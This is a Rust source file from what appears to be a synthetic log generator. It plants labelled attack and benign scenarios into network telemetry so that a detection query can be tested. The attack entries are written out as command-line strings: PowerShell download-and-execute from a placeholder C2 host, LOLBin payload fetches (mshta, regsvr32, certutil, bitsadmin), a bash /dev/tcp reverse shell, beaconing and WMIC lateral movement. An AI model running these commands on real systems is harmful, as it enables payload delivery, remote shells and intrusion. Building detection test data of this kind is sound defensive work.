//! Planted, labelled scenarios: the attacks the seed query is meant to catch (and
//! some it misses), and the benign look-alikes from its false-positive list.
//!
//! An *episode* is one run of a scenario on one device by one process instance:
//! one row, or a series (a beacon every ~60 s). Episodes start at evenly spread
//! times, cycling through the scenarios, so every scenario appears at least twice
//! (once in each half of the span) whatever N is; only a few are active at once.

use super::catalog::Dir;
use super::catalog::{self, Acct, Dest, Image, Proto, SYSTEM};
use super::record::{NANOS_PER_SEC, Record};
use super::world::{Conn, Kind, Proc, Spawn, World};

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Category {
    Attack,
    Benign,
}

impl Category {
    pub fn name(self) -> &'static str {
        match self {
            Category::Attack => "attack",
            Category::Benign => "benign",
        }
    }
}

/// Where a variant connects.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Target {
    /// One attacker address per episode, in public hosting ranges.
    C2,
    /// A literal address.
    Ip(&'static str),
    /// A fresh address of this kind for every row.
    Dest(Dest),
}

/// One way a scenario is carried out: which binary, started how, talking where.
#[derive(Debug)]
pub struct Variant {
    pub image: &'static Image,
    pub parent: &'static Image,
    pub acct: Option<Acct>,
    /// Command line; `{c2}` is the episode's remote address, other placeholders
    /// as in `world::render`.
    pub cmd: &'static str,
    pub ports: &'static [u16],
    pub target: Target,
}

#[derive(Debug)]
pub struct Scenario {
    pub name: &'static str,
    pub category: Category,
    pub hosts: &'static [Kind],
    pub action: &'static str,
    pub variants: &'static [Variant],
    /// Rows per episode, inclusive range.
    pub rows: (u64, u64),
    /// Seconds between rows of an episode, inclusive range.
    pub every: (u64, u64),
}

const WINDOWS_CLIENTS: &[Kind] = &[Kind::Workstation, Kind::Developer];
const WINDOWS_ANY: &[Kind] = &[Kind::Workstation, Kind::Developer, Kind::Server];
const ELEVATED: Option<Acct> = Some(Acct::UserElevated);
const AS_SYSTEM: Option<Acct> = Some(Acct::Service(&SYSTEM));

const fn v(
    image: &'static Image,
    parent: &'static Image,
    cmd: &'static str,
    ports: &'static [u16],
    target: Target,
) -> Variant {
    Variant {
        image,
        parent,
        acct: None,
        cmd,
        ports,
        target,
    }
}

const fn sys(
    image: &'static Image,
    parent: &'static Image,
    cmd: &'static str,
    ports: &'static [u16],
    target: Target,
) -> Variant {
    Variant {
        image,
        parent,
        acct: AS_SYSTEM,
        cmd,
        ports,
        target,
    }
}

use Target::C2;
use catalog::*;

pub const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "script-interpreter-c2",
        category: Category::Attack,
        hosts: WINDOWS_CLIENTS,
        action: "ConnectionSuccess",
        rows: (1, 3),
        every: (20, 300),
        variants: &[
            v(
                &POWERSHELL,
                &WINWORD,
                "powershell.exe -nop -w hidden -ep bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                &[443, 80],
                C2,
            ),
            v(
                &PWSH,
                &CMD_PARENT,
                "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoProfile -Command \"iwr -UseBasicParsing https://{c2}/api/v2/update | iex\"",
                &[443],
                C2,
            ),
            v(
                &CMD,
                &WINWORD,
                "cmd.exe /c \"nslookup -q=txt x7f3.cdn-update.net {c2}\"",
                &[53],
                C2,
            ),
            v(
                &WSCRIPT,
                &EXPLORER,
                "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\{user}\\Downloads\\Invoice_4471.js\"",
                &[443, 80],
                C2,
            ),
            v(
                &CSCRIPT,
                &CMD_PARENT,
                "cscript.exe //nologo //E:vbscript C:\\Users\\{user}\\AppData\\Roaming\\upd.dat",
                &[80],
                C2,
            ),
            v(
                &MSHTA,
                &EXPLORER,
                "\"C:\\Windows\\System32\\mshta.exe\" http://{c2}/doc/view.hta",
                &[80, 443],
                C2,
            ),
            v(
                &WMIC,
                &CMD_PARENT,
                "wmic.exe os get /format:\"https://{c2}/s.xsl\"",
                &[443],
                C2,
            ),
        ],
    },
    Scenario {
        name: "lolbin-c2",
        category: Category::Attack,
        hosts: WINDOWS_CLIENTS,
        action: "ConnectionSuccess",
        rows: (1, 2),
        every: (5, 120),
        variants: &[
            v(
                &RUNDLL32,
                &CMD_PARENT,
                "rundll32.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\msvcp140.dll,DllRegisterServer",
                &[443],
                C2,
            ),
            v(
                &REGSVR32,
                &CMD_PARENT,
                "regsvr32.exe /s /n /u /i:http://{c2}/file.sct scrobj.dll",
                &[80],
                C2,
            ),
            v(
                &CERTUTIL,
                &CMD_PARENT,
                "certutil.exe -urlcache -split -f http://{c2}/payload.b64 C:\\Users\\Public\\p.b64",
                &[80],
                C2,
            ),
            v(
                &BITSADMIN,
                &CMD_PARENT,
                "bitsadmin.exe /transfer job1 /download /priority high http://{c2}/a.exe C:\\Users\\Public\\a.exe",
                &[80],
                C2,
            ),
            v(
                &MSBUILD,
                &CMD_PARENT,
                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\build.csproj",
                &[443],
                C2,
            ),
            v(
                &CSC,
                &CMD_PARENT,
                "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths @\"C:\\Users\\{user}\\AppData\\Local\\Temp\\x3k1.cmdline\"",
                &[443],
                C2,
            ),
            v(
                &INSTALLUTIL,
                &CMD_PARENT,
                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\svc.dll",
                &[443],
                C2,
            ),
            v(
                &REGASM,
                &CMD_PARENT,
                "RegAsm.exe /U C:\\Users\\Public\\x.dll",
                &[443],
                C2,
            ),
            v(
                &REGSVCS,
                &CMD_PARENT,
                "RegSvcs.exe C:\\Users\\Public\\x.dll",
                &[443],
                C2,
            ),
            v(
                &HH,
                &EXPLORER,
                "\"C:\\Windows\\hh.exe\" http://{c2}/help.chm",
                &[80],
                C2,
            ),
            v(
                &XWIZARD,
                &CMD_PARENT,
                "xwizard.exe RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d}",
                &[443],
                C2,
            ),
        ],
    },
    Scenario {
        name: "injected-system-binary",
        category: Category::Attack,
        hosts: WINDOWS_CLIENTS,
        action: "ConnectionSuccess",
        rows: (1, 4),
        every: (30, 600),
        variants: &[
            v(
                &NOTEPAD,
                &EXPLORER,
                "\"C:\\Windows\\System32\\notepad.exe\" ",
                &[443],
                C2,
            ),
            v(
                &CALC,
                &EXPLORER,
                "\"C:\\Windows\\System32\\calc.exe\" ",
                &[443],
                C2,
            ),
            v(
                &MSPAINT,
                &EXPLORER,
                "\"C:\\Windows\\System32\\mspaint.exe\" ",
                &[443, 80],
                C2,
            ),
        ],
    },
    Scenario {
        name: "renamed-powershell",
        category: Category::Attack,
        hosts: WINDOWS_CLIENTS,
        action: "ConnectionSuccess",
        rows: (1, 3),
        every: (30, 300),
        variants: &[v(
            &UPDATE_EXE,
            &WINWORD,
            "\"C:\\Users\\{user}\\AppData\\Local\\Temp\\update.exe\" -nop -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString('https://{c2}/u'))\"",
            &[443],
            C2,
        )],
    },
    Scenario {
        name: "masquerading-chrome",
        category: Category::Attack,
        hosts: WINDOWS_CLIENTS,
        action: "ConnectionSuccess",
        rows: (1, 3),
        every: (60, 900),
        variants: &[v(
            &FAKE_CHROME,
            &SVCHOST_NETSVCS,
            "\"C:\\Users\\Public\\chrome.exe\" --no-sandbox --type=renderer",
            &[443],
            C2,
        )],
    },
    Scenario {
        name: "msiexec-remote-install",
        category: Category::Attack,
        hosts: WINDOWS_CLIENTS,
        action: "ConnectionSuccess",
        rows: (1, 1),
        every: (1, 1),
        variants: &[v(
            &MSIEXEC,
            &CMD_PARENT,
            "msiexec /q /i http://203.0.113.7/x.msi",
            &[80],
            Target::Ip("203.0.113.7"),
        )],
    },
    Scenario {
        name: "beacon-60s",
        category: Category::Attack,
        hosts: WINDOWS_CLIENTS,
        action: "ConnectionSuccess",
        rows: (20, 40),
        every: (54, 66),
        variants: &[
            v(
                &POWERSHELL,
                &WINWORD,
                "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command \"while($true){try{$r=iwr https://{c2}/cdn/jquery.min.js -UseBasicParsing}catch{};sleep 60}\"",
                &[443],
                C2,
            ),
            v(
                &RUNDLL32,
                &SVCHOST_NETSVCS,
                "\"C:\\Windows\\System32\\rundll32.exe\" C:\\ProgramData\\Intel\\igfxtray.dat,Start",
                &[443],
                C2,
            ),
        ],
    },
    Scenario {
        name: "lateral-movement",
        category: Category::Attack,
        hosts: WINDOWS_ANY,
        action: "ConnectionSuccess",
        rows: (3, 8),
        every: (2, 30),
        variants: &[
            Variant {
                acct: ELEVATED,
                ..v(
                    &POWERSHELL,
                    &CMD_PARENT,
                    "powershell.exe -nop -c \"1..254 | % { Test-NetConnection 10.20.0.$_ -Port 3389 }\"",
                    &[3389, 22],
                    Target::Dest(Dest::Peer),
                )
            },
            Variant {
                acct: ELEVATED,
                ..v(
                    &WMIC,
                    &CMD_PARENT,
                    "wmic.exe /node:\"10.20.4.31\" /user:\"CONTOSO\\svc-backup\" process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt\"",
                    &[135],
                    Target::Dest(Dest::Peer),
                )
            },
        ],
    },
    Scenario {
        name: "dead-c2-failed-beacon",
        category: Category::Attack,
        hosts: WINDOWS_CLIENTS,
        action: "ConnectionFailed",
        rows: (5, 12),
        every: (30, 300),
        variants: &[
            v(
                &RUNDLL32,
                &EXPLORER,
                "rundll32.exe C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\oleaut.dll,#1",
                &[443],
                C2,
            ),
            v(
                &POWERSHELL,
                &WINWORD,
                "powershell.exe -w hidden -c \"$c=New-Object Net.Sockets.TCPClient('{c2}',443)\"",
                &[443],
                C2,
            ),
        ],
    },
    Scenario {
        name: "linux-reverse-shell",
        category: Category::Attack,
        hosts: &[Kind::Linux],
        action: "ConnectionRequest",
        rows: (1, 2),
        every: (5, 60),
        variants: &[v(
            &BASH,
            &PYTHON_APP,
            "bash -c \"bash -i >& /dev/tcp/{c2}/443 0>&1\"",
            &[443],
            C2,
        )],
    },
    Scenario {
        name: "sccm-script",
        category: Category::Benign,
        hosts: WINDOWS_ANY,
        action: "ConnectionSuccess",
        rows: (1, 3),
        every: (1, 30),
        variants: &[
            sys(
                &POWERSHELL,
                &CCMEXEC,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NonInteractive -ExecutionPolicy Bypass -File \"C:\\Windows\\CCM\\SystemTemp\\{guid}.ps1\"",
                &[443],
                Target::Dest(Dest::Distribution),
            ),
            sys(
                &CSCRIPT,
                &CCMEXEC,
                "cscript.exe //nologo \"C:\\Windows\\CCM\\ScriptStore\\{guid}.vbs\"",
                &[80],
                Target::Dest(Dest::Distribution),
            ),
        ],
    },
    Scenario {
        name: "config-management-rest",
        category: Category::Benign,
        hosts: WINDOWS_ANY,
        action: "ConnectionSuccess",
        rows: (1, 4),
        every: (1, 20),
        variants: &[
            sys(
                &POWERSHELL,
                &RUBY_CHEF,
                "powershell.exe -NoLogo -NonInteractive -NoProfile -ExecutionPolicy Bypass -InputFormat None -File \"C:\\Windows\\TEMP\\chef-script20261129-4242-1x8d3f.ps1\"",
                &[443],
                Target::Dest(Dest::Intranet),
            ),
            sys(
                &POWERSHELL,
                &RUBY_PUPPET,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -NonInteractive -NoLogo -ExecutionPolicy Bypass -Command \"$ErrorActionPreference = 'Stop'\n$h = @{Authorization = \"Bearer $env:PUPPET_TOKEN\"}\nInvoke-RestMethod -Uri 'https://graph.microsoft.com/v1.0/groups?$top=5' -Headers $h\"",
                &[443],
                Target::Dest(Dest::MsCloud),
            ),
            Variant {
                acct: ELEVATED,
                ..v(
                    &POWERSHELL,
                    &WSMPROVHOST,
                    "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand UABvAHcAZQByAFMAaABlAGwAbAAgAC0ATgBvAFAAcgBvAGYAaQBsAGUA",
                    &[443],
                    Target::Dest(Dest::MsCloud),
                )
            },
        ],
    },
    Scenario {
        name: "software-distribution-download",
        category: Category::Benign,
        hosts: WINDOWS_ANY,
        action: "ConnectionSuccess",
        rows: (1, 2),
        every: (1, 10),
        variants: &[
            sys(
                &CERTUTIL,
                &CCMEXEC,
                "certutil.exe -urlcache -f http://sccm01.corp.contoso.com/SMS_DP_SMSPKG$/CON00042/agent.cab C:\\Windows\\ccmcache\\agent.cab",
                &[80],
                Target::Dest(Dest::Distribution),
            ),
            sys(
                &BITSADMIN,
                &CCMEXEC,
                "bitsadmin.exe /transfer CCMDownload /download /priority normal http://sccm01.corp.contoso.com/SMS_DP_SMSPKG$/CON00042/setup.exe C:\\Windows\\ccmcache\\3\\setup.exe",
                &[80],
                Target::Dest(Dest::Distribution),
            ),
            sys(
                &CERTUTIL,
                &SVCHOST_NETSVCS,
                "certutil.exe -generateSSTFromWU C:\\Windows\\Temp\\roots.sst",
                &[80],
                Target::Dest(Dest::MsCloud),
            ),
        ],
    },
    Scenario {
        name: "msiexec-internal-distribution",
        category: Category::Benign,
        hosts: WINDOWS_ANY,
        action: "ConnectionSuccess",
        rows: (1, 2),
        every: (1, 10),
        variants: &[sys(
            &MSIEXEC,
            &CCMEXEC,
            "msiexec.exe /i \"http://sccm01.corp.contoso.com/packages/7-Zip/7z2408-x64.msi\" /qn /norestart",
            &[80, 443],
            Target::Dest(Dest::Distribution),
        )],
    },
    Scenario {
        name: "monitoring-script-check",
        category: Category::Benign,
        hosts: &[Kind::Server],
        action: "ConnectionSuccess",
        rows: (1, 3),
        every: (60, 300),
        variants: &[
            sys(
                &POWERSHELL,
                &SOLARWINDS,
                "powershell.exe -NoProfile -NonInteractive -Command \"(Invoke-WebRequest -UseBasicParsing http://intranet.corp.contoso.com/health).StatusCode\"",
                &[80],
                Target::Dest(Dest::Intranet),
            ),
            sys(
                &POWERSHELL,
                &DATADOG,
                "powershell.exe -NoLogo -Command \"Invoke-RestMethod https://intranet.corp.contoso.com/api/status\"",
                &[443],
                Target::Dest(Dest::Intranet),
            ),
            sys(
                &CSCRIPT,
                &ZABBIX,
                "cscript.exe //nologo \"C:\\Program Files\\Zabbix Agent 2\\scripts\\check_http.vbs\" intranet.corp.contoso.com 80",
                &[80],
                Target::Dest(Dest::Intranet),
            ),
        ],
    },
    Scenario {
        name: "developer-nuget-restore",
        category: Category::Benign,
        hosts: &[Kind::Developer],
        action: "ConnectionSuccess",
        rows: (1, 4),
        every: (1, 20),
        variants: &[
            v(
                &VS_MSBUILD,
                &DEVENV,
                "\"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\amd64\\MSBuild.exe\" /m /restore /p:Configuration=Debug \"C:\\src\\{project}\\{project}.sln\"",
                &[443],
                Target::Dest(Dest::NuGet),
            ),
            v(
                &VS_CSC,
                &VS_MSBUILD,
                "\"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\Roslyn\\csc.exe\" /shared /keepalive:\"10\" /noconfig @\"C:\\Users\\{user}\\AppData\\Local\\Temp\\tmp4F2A.rsp\"",
                &[443],
                Target::Dest(Dest::NuGet),
            ),
        ],
    },
];

/// Attacker infrastructure: public hosting ranges (not documentation ranges, which
/// a classifier may rightly call reserved).
const C2_PREFIXES: &[[u8; 2]] = &[
    [45, 77],
    [91, 215],
    [5, 188],
    [194, 87],
    [146, 70],
    [185, 141],
];

/// One running episode.
#[derive(Debug)]
struct Episode {
    scenario: &'static Scenario,
    variant: &'static Variant,
    dev: usize,
    /// The remote address for C2 / literal targets.
    remote: String,
    /// The command line with `{c2}` filled in.
    cmd: String,
    proc: Option<Proc>,
    rows_left: u64,
    next: i64,
}

/// Schedules episodes over the span and emits their rows when due.
#[derive(Debug)]
pub struct Planner {
    start: i64,
    span: i64,
    total: u64,
    started: u64,
    next_start: i64,
    active: Vec<Episode>,
}

/// At most this many episodes run at once (bounded memory for any N).
const MAX_ACTIVE: usize = 64;

impl Planner {
    /// `events` sets the density: one episode per 2 000 events, and never fewer
    /// than two per scenario (unless that would plant more than 1 in 50 events).
    pub fn new(start: i64, span: i64, events: u64) -> Planner {
        let total = (events / 2_000)
            .max(2 * SCENARIOS.len() as u64)
            .min((events / 50).max(1));
        let mut p = Planner {
            start,
            span,
            total,
            started: 0,
            next_start: 0,
            active: Vec::new(),
        };
        p.next_start = p.start_time(0);
        p
    }

    /// Episode `k` starts a quarter of a slot into its slot of the span.
    fn start_time(&self, k: u64) -> i64 {
        let slot = self.span as i128 * (4 * i128::from(k) + 1) / (4 * i128::from(self.total));
        self.start + slot as i64
    }

    /// Whether a planted row is due by `t` (starting the episodes due by then).
    pub fn due(&mut self, t: i64, world: &mut World) -> bool {
        while self.started < self.total && self.next_start <= t && self.active.len() < MAX_ACTIVE {
            self.activate(world);
        }
        self.active.iter().any(|e| e.next <= t)
    }

    fn activate(&mut self, world: &mut World) {
        let k = self.started;
        let n = SCENARIOS.len() as u64;
        let scenario = &SCENARIOS[(k % n) as usize];
        // Cycle the variants across rounds so each gets its turn.
        let variant = &scenario.variants[((k / n) % scenario.variants.len() as u64) as usize];
        let dev = world.pick_device(scenario.hosts);
        let remote = match variant.target {
            Target::C2 => {
                let p = world.rng.pick(C2_PREFIXES);
                format!(
                    "{}.{}.{}.{}",
                    p[0],
                    p[1],
                    world.rng.below(256),
                    world.rng.range(1, 254)
                )
            }
            Target::Ip(ip) => ip.to_string(),
            Target::Dest(_) => String::new(),
        };
        let rows_left = world.rng.range(scenario.rows.0, scenario.rows.1);
        self.active.push(Episode {
            scenario,
            variant,
            dev,
            cmd: variant.cmd.replace("{c2}", &remote),
            remote,
            proc: None,
            rows_left,
            next: self.next_start,
        });
        self.started += 1;
        self.next_start = self.start_time(self.started);
    }

    /// Emits the earliest due row (its time clamped into `(floor, t]`); `pre` gets
    /// the process-creation row first when one is owed. Returns (pre written, scenario).
    pub fn emit(
        &mut self,
        t: i64,
        floor: i64,
        world: &mut World,
        pre: &mut Record,
        rec: &mut Record,
    ) -> (bool, &'static Scenario) {
        let i = (0..self.active.len())
            .min_by_key(|&i| self.active[i].next)
            .expect("due() was true");
        let ep = &mut self.active[i];
        let time = ep.next.clamp(floor + 100, t.max(floor + 100));
        let v = ep.variant;
        let mut proc = match ep.proc.take() {
            Some(p) => p,
            None => {
                let how = Spawn {
                    parent: Some(v.parent),
                    acct: v.acct,
                    cmd: Some(&ep.cmd),
                };
                world.spawn(ep.dev, v.image, how, time, floor)
            }
        };
        let announced = world.announce(ep.dev, &mut proc, pre);
        let port = *world.rng.pick(v.ports);
        let (remote_ip, dest) = match v.target {
            Target::Dest(d) => (None, d),
            _ => (Some(ep.remote.as_str()), Dest::Internet),
        };
        let conn = Conn {
            action: ep.scenario.action,
            proto: if port == 53 { Proto::Udp } else { Proto::Tcp },
            dir: Dir::Out,
            remote_port: Some(port),
            local_port: Some(world.rng.range(49_152, 65_535) as u16),
            remote_ip,
            dest,
        };
        world.network_row(ep.dev, Some(&proc), &conn, time, rec);
        ep.proc = Some(proc);
        ep.rows_left -= 1;
        let (lo, hi) = ep.scenario.every;
        ep.next = time + world.rng.range(lo * 1000, hi * 1000) as i64 * (NANOS_PER_SEC / 1000);
        let scenario = ep.scenario;
        if ep.rows_left == 0 {
            self.active.swap_remove(i);
        }
        (announced, scenario)
    }
}
